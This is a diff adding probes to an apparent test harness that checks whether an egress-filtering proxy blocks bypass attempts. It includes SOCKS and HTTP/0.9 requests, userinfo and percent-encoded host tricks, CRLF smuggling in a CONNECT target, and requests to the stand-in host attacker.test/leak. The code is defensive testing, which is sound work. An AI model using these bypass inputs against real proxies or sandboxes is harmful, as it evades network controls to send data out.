@@ -153,6 +153,68 @@ probe("proxy: userinfo trick", lambda: get("http://index.test:8080@attacker.test
 probe("proxy: suffix trick", lambda: get("http://index.test.attacker.test/leak"))
 
 
+def answer_of(request, then=None):
+    """What the proxy answers ``request`` (sent to it, or ``then`` in the tunnel it opened): a
+    refusal raises with the answer's text, so the outcome shows whose refusal it was."""
+    with socket.create_connection(PROXY, timeout=5) as sock:
+        sock.sendall(request)
+        answer = sock.recv(4096)
+        if then is not None and answer.startswith(b"HTTP/1.1 200"):
+            sock.sendall(then)
+            answer = sock.recv(4096)
+    if answer.startswith(b"HTTP/1.1 200"):
+        return answer
+    raise ConnectionRefusedError(repr(answer.split(b"\r\n\r\n", 1)[-1][:100]) if answer else "closed")
+
+
+def tls_to_the_proxy():
+    context = ssl.create_default_context()
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    with socket.create_connection(PROXY, timeout=5) as sock, context.wrap_socket(sock) as tls:
+        return tls.recv(100)
+
+
+def server_first(target):
+    """A tunnel to an allowed host whose server speaks first (the rig's banner): the client waits."""
+    with socket.create_connection(PROXY, timeout=5) as sock:
+        sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
+        if not sock.recv(4096).startswith(b"HTTP/1.1 200"):
+            raise ConnectionRefusedError("CONNECT refused")
+        if banner := sock.recv(100):
+            return banner
+        raise ConnectionRefusedError("closed")
+
+
+def after_a_refusal(request):
+    """``request`` on a connection the proxy kept alive after refusing a first one (a ``403``)."""
+    with socket.create_connection(PROXY, timeout=5) as sock:
+        sock.sendall(b"GET http://attacker.test/leak HTTP/1.1\r\nHost: attacker.test\r\n\r\n")
+        if not sock.recv(4096).startswith(b"HTTP/1.1 403"):
+            raise RuntimeError("the first request was not refused")
+        sock.sendall(request)
+        answer = sock.recv(4096)
+    if answer.startswith(b"HTTP/1.1 200"):
+        return answer
+    raise ConnectionRefusedError(repr(answer.split(b"\r\n\r\n", 1)[-1][:100]) if answer else "closed")
+
+
+probe("proxy: a SOCKS5 greeting", lambda: answer_of(b"\x05\x01\x00"))
+probe("proxy: a SOCKS4 request", lambda: answer_of(b"\x04\x01\x00\x50" + socket.inet_aton(A) + b"x\x00"))
+probe("proxy: HTTP/0.9", lambda: answer_of(b"GET http://index.test:8080/simple/\r\n"))
+probe("proxy: TLS to the proxy itself", tls_to_the_proxy)
+probe("proxy: binary bytes in a tunnel", lambda: answer_of(
+    b"CONNECT plain.test:80 HTTP/1.1\r\nHost: plain.test:80\r\n\r\n", then=b"\0" * 64))
+probe("proxy: a tunnel whose server speaks first", lambda: server_first("api.test:2525"))
+probe("proxy: userinfo in a CONNECT target", lambda: answer_of(
+    b"CONNECT index.test:8080@attacker.test:80 HTTP/1.1\r\nHost: attacker.test:80\r\n\r\n"))
+probe("proxy: a percent-encoded CONNECT target", lambda: answer_of(
+    b"CONNECT %61ttacker.test:80 HTTP/1.1\r\nHost: attacker.test:80\r\n\r\n"))
+probe("proxy: CRLF in a CONNECT target", lambda: answer_of(
+    b"CONNECT index.test:8080\r\nX: attacker.test:80 HTTP/1.1\r\n\r\n"))
+probe("proxy: userinfo in a second request on one connection", lambda: after_a_refusal(
+    b"GET http://index.test:8080@attacker.test/leak HTTP/1.1\r\nHost: attacker.test\r\n\r\n"))
+
+
 def _unix(request):
     with socket.socket(socket.AF_UNIX) as sock:
         sock.settimeout(5)
